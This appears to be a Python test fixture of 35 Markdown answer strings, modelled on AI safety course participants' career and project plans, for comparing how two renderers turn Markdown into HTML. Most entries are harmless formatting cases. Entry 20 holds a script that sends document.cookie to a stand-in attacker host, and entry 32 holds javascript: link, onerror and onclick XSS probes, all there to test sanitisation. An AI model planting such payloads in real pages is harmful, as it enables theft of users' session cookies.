"""Answers of the kind participants write, for comparing two renderers' HTML.

Written for this comparison: career and project plans, reflections and
feedback, with the Markdown people actually type (lists straight after a
sentence, two-space nesting, pasted HTML, the odd script tag) as well as
the Markdown the help texts suggest.
"""

ANSWERS = [
    # 1. Plain paragraphs
    """I would explain it like this: we are building systems that pursue goals, and we are not
very good at saying exactly what we want. A system that is rewarded for looking helpful
can learn to look helpful rather than to be helpful.

The worry grows with capability, because a more capable system is better at finding the
gaps between what we asked for and what we meant.""",
    # 2. Bulleted list after a blank line
    """Roles I could see myself in:

- Research engineer on an interpretability team
- Policy analyst at a think tank working on compute governance
- Technical writer who explains alignment results to a general audience
- Founding engineer at a small evals organisation""",
    # 3. List straight after a sentence (no blank line)
    """The three cheap tests I will run this month:
- talk to two research engineers about their week
- reproduce one figure from the induction heads paper
- apply to the next evals hackathon""",
    # 4. Numbered list with emphasis and links
    """1. **Read** the [80,000 Hours career guide](https://80000hours.org/career-guide/) chapter on
   personal fit.
2. *Write* a one-page summary of what I learned.
3. Share it with my cohort and ask for **one** blunt comment each.""",
    # 5. Nested list, four-space indentation
    """- Technical paths
    - Research engineer
    - Research scientist (needs a PhD? check)
- Non-technical paths
    - Operations at a safety org
    - Grantmaking""",
    # 6. Nested list, two-space indentation
    """- Near term (next 3 months)
  - finish the course
  - one small project
- Longer term
  - apply for a residency
  - maybe a master's""",
    # 7. Headings and sections
    """## Goal

Understand whether sparse autoencoders recover the same features across random seeds.

## Deliverable

A short write-up with three plots and the code on GitHub.

## Risks

Compute. I have a single consumer GPU, so I will stay with small models.""",
    # 8. Inline code and a fenced code block
    """I will start from the `transformer_lens` tutorial and hook the residual stream:

```python
model = HookedTransformer.from_pretrained("gpt2-small")
logits, cache = model.run_with_cache(prompt)
resid = cache["resid_post", 5]
```

Then I will train the SAE on `resid` for layer 5 only.""",
    # 9. Indented code block
    """My plotting helper, for reference:

    def plot(losses):
        plt.plot(losses)
        plt.yscale("log")

It is nothing special.""",
    # 10. A table of milestones
    """| Week | Milestone | Done when |
|------|-----------|-----------|
| 1 | Reproduce baseline | loss curve matches the paper |
| 2 | Train SAEs on 3 seeds | all three checkpoints saved |
| 3 | Compare features | similarity matrix plotted |
| 4 | Write up | draft shared with cohort |""",
    # 11. A table with alignment
    """| Option | Fit (1-5) | Cost |
|:-------|:---------:|-----:|
| PhD | 3 | 5 years |
| Research engineer | 4 | 6 months of upskilling |
| Policy | 2 | unknown |""",
    # 12. Quote from a resource, then a response
    """> The bar is often lower than people assume.

That line from the DeepMind hiring post stuck with me. I had assumed I needed a PhD to
apply anywhere, and I now think that was wrong for engineering roles.""",
    # 13. Quote spanning paragraphs with a list inside
    """> Things my manager said in my last review:
>
> - strong at debugging
> - should speak up more in design discussions

I think both are fair, and the second is something a cohort can help with.""",
    # 14. Links of every kind
    """Useful links: <https://www.alignmentforum.org/>, the
[AGI safety fundamentals](https://aisafetyfundamentals.com "AISF") site, and my notes at
[my notes][notes].

[notes]: https://example.com/notes""",
    # 15. A bare URL, as people paste them
    """The paper I keep coming back to is https://arxiv.org/abs/2209.00626 and the talk at
https://www.youtube.com/watch?v=pYXy-A4siMw is a good first step.""",
    # 16. Emphasis in many styles
    """This is *really* important, and this is _also_ important. Some things are **very**
important and __equally__ so. Snake_case_names and 2*3*4 should stay as they are.""",
    # 17. Hard line breaks written as two trailing spaces
    "Name: Ada  \nBackground: physics, then five years of backend work  \nHours per week: about 8",
    # 18. Pasted HTML with formatting tags
    """I care about <b>two</b> things: <i>honesty</i> of the model and <u>robustness</u> of the
evaluation. H<sub>2</sub>O and E = mc<sup>2</sup> are just to check the tags.""",
    # 19. Pasted HTML block
    """<div class="note">
<p>Copied from my notes app.</p>
</div>

Everything after this line is Markdown again.""",
    # 20. A script tag someone tried
    """Testing whether this is escaped <script>alert('hi')</script> properly.

<script>
document.location = "https://evil.example/?c=" + document.cookie
</script>""",
    # 21. An image
    """Here is my loss curve:

![training loss over 10k steps](https://example.com/loss.png)""",
    # 22. Horizontal rules and setext headings
    """Career plan
===========

First draft, written in one sitting.

---

Second thoughts
---------------

I would now put policy second.""",
    # 23. A list that starts at 3, and a list with blank lines between items
    """3. Apply to the residency
4. Ask for references

- First item

- Second item, with more to say about it than fits on one line, so it wraps onto the
  next line as people write it.

- Third item""",
    # 24. Milestones as a dash list with dates
    """- 2027-03-01: finish reading
- 2027-03-15: baseline reproduced
- 2027-04-01: write-up""",
    # 25. Characters that need escaping
    """Compute budget < $200 & time > 40 hours. I'd rate it 4/5 "probably fine".
AT&T, R&D, and 5 < 6 > 4 all appear in my notes.""",
    # 26. Backslash escapes and literal asterisks
    """I rated it \\*\\*\\*\\* (four stars).
The file is named \\_draft\\_v2.md and costs 5 \\* 3.""",
    # 27. A pre-mortem with mixed lists
    """Most likely failure modes:

1. I run out of time
   - mitigation: block Saturday mornings
2. The model is too big for my GPU
   - mitigation: use gpt2-small
3. I lose motivation
   - mitigation: weekly check-in with my cohort partner""",
    # 28. A long reflection with inline code and quotes
    """When I first read about *reward hacking* I thought of it as a bug, like a misconfigured
`reward_fn`. After the session I see it as the default outcome: any proxy you write
down has cheaper ways to be maximised than the thing you meant.

> Goodhart's law: when a measure becomes a target, it ceases to be a good measure.

I'd like to test this on a toy gridworld.""",
    # 29. Feedback from a facilitator
    """Good plan overall. Two suggestions:

* make milestone 2 smaller (one seed first)
* add a fallback deliverable in case the comparison is inconclusive

**Grade:** ready for the sprint.""",
    # 30. An HTML line break and an entity
    """Line one<br>line two&nbsp;with a non-breaking space and an em dash &mdash; here.""",
    # 31. A heading without a space, as people sometimes type
    """#Goals
I want to finish the project.""",
    # 32. Link with a javascript URL and an image with an onerror handler
    """[click me](javascript:alert(1)) and <img src="x" onerror="alert(1)"> and
<a href="https://example.com" onclick="steal()">a link</a>.""",
    # 33. A table straight after a sentence, and a list numbered with brackets
    """My week, roughly:
| Day | Hours |
|-----|-------|
| Mon | 2 |
| Sat | 4 |

1) read
2) code""",
    # 34. An email address, a fenced block with tildes, a backslash line break
    """Write to me at <ada@example.com> if you want to pair.\
Same week works.

~~~
pip install transformer_lens
~~~""",
    # 35. A comment left in by accident, and a lazy quote continuation
    """<!-- TODO: shorten this -->
> I am not sure the deceptive alignment argument holds,
because it assumes the model models its own training.""",
]
